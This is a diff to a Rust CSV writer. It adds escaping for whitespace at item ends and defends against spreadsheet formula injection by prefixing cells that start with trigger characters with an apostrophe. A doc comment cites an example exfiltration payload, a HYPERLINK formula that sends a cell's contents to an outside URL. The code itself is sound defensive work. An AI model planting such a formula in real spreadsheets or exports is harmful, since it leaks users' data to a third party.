@@ -6,7 +6,17 @@
 //! with `; `; inside an item `\` is written `\\` and `;` is written `\;`,
 //! so that every list splits back exactly. A KPI is
 //! `name:target:unit` with `:` inside a part written `\:`; a KPI with an
-//! id adds it as a fourth part (`name:target:unit:id`).
+//! id adds it as a fourth part (`name:target:unit:id`). Whitespace at the
+//! start or end of a list item or KPI part is part of the text: it gets a
+//! backslash too (`\ `), so that it is not taken for the space after `;`.
+//!
+//! Formula injection: a spreadsheet runs a cell that starts with `=`, `+`,
+//! `-`, `@`, a tab or a carriage return as a formula
+//! (`=HYPERLINK("http://…?d="&B2,"Open")`). Such a cell is written with a
+//! `'` in front, as OWASP recommends, and so is a cell that starts with
+//! `'` itself; `journeyc import csv` removes exactly one leading `'` from
+//! every cell, so texts come back exactly ([`neutralise`]). The score
+//! columns hold numbers, which are written as they are.
 
 use crate::doc::{format_number, Document, Kpi, Phase, Touchpoint};
 
@@ -40,11 +50,14 @@ pub const COLUMNS: &[&str] = &[
     "allows",
 ];
 
-/// Escapes one list item: `\` and `;` get a backslash.
-fn item(s: &str) -> String {
+/// Escapes `s` for a place in a cell where `specials` separate: each of
+/// them and `\` get a backslash, and so does whitespace at either end
+/// (which the reader would trim otherwise).
+fn escape(s: &str, specials: &[char]) -> String {
     let mut out = String::with_capacity(s.len());
-    for c in s.chars() {
-        if matches!(c, '\\' | ';') {
+    let last = s.chars().count().saturating_sub(1);
+    for (i, c) in s.chars().enumerate() {
+        if c == '\\' || specials.contains(&c) || (c.is_whitespace() && (i == 0 || i == last)) {
             out.push('\\');
         }
         out.push(c);
@@ -52,16 +65,53 @@ fn item(s: &str) -> String {
     out
 }
 
-/// Escapes one part of a KPI: `\`, `;` and `:` get a backslash.
+/// Escapes one list item: `\`, `;` and whitespace at its ends get a
+/// backslash.
+fn item(s: &str) -> String {
+    escape(s, &[';'])
+}
+
+/// Escapes one part of a KPI: `\`, `;`, `:` and whitespace at its ends
+/// get a backslash.
 fn part(s: &str) -> String {
-    let mut out = String::with_capacity(s.len());
-    for c in s.chars() {
-        if matches!(c, '\\' | ';' | ':') {
-            out.push('\\');
-        }
-        out.push(c);
+    escape(s, &[';', ':'])
+}
+
+/// The characters that make a spreadsheet read a cell as a formula (and
+/// `'`, the mark this writer puts before such a cell).
+pub const FORMULA_TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r', '\''];
+
+/// Columns that hold numbers: a number there is written as it is.
+const NUMERIC: &[&str] = &["expectation", "experience"];
+
+/// A cell as written: with a `'` in front when it starts with one of
+/// [`FORMULA_TRIGGERS`], so that no spreadsheet runs it as a formula.
+/// [`restore`] undoes exactly that. A number in a numeric column is left
+/// as it is (`-1` is a number, not a formula).
+pub fn neutralise(cell: String, column: &str) -> String {
+    if NUMERIC.contains(&column) && is_number(&cell) {
+        return cell;
     }
-    out
+    if cell.starts_with(FORMULA_TRIGGERS) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
+/// The text of a cell [`neutralise`] wrote: without one leading `'`.
+pub fn restore(cell: &str) -> &str {
+    cell.strip_prefix('\'').unwrap_or(cell)
+}
+
+/// `-`? digits, optionally `.` digits.
+fn is_number(s: &str) -> bool {
+    let s = s.strip_prefix('-').unwrap_or(s);
+    let (int, frac) = s.split_once('.').unwrap_or((s, "0"));
+    !int.is_empty()
+        && !frac.is_empty()
+        && int.bytes().all(|b| b.is_ascii_digit())
+        && frac.bytes().all(|b| b.is_ascii_digit())
 }
 
 fn list<S: AsRef<str>>(items: &[S]) -> String {
@@ -102,6 +152,15 @@ fn yes_no(b: Option<bool>) -> String {
 }
 
 fn row(journey: &str, phase: &Phase, t: &Touchpoint) -> Vec<String> {
+    cells(journey, phase, t)
+        .into_iter()
+        .zip(COLUMNS)
+        .map(|(cell, column)| neutralise(cell, column))
+        .collect()
+}
+
+/// The cells of a row, in the order of [`COLUMNS`].
+fn cells(journey: &str, phase: &Phase, t: &Touchpoint) -> Vec<String> {
     let opt = |s: &Option<String>| s.clone().unwrap_or_default();
     vec![
         journey.to_string(),
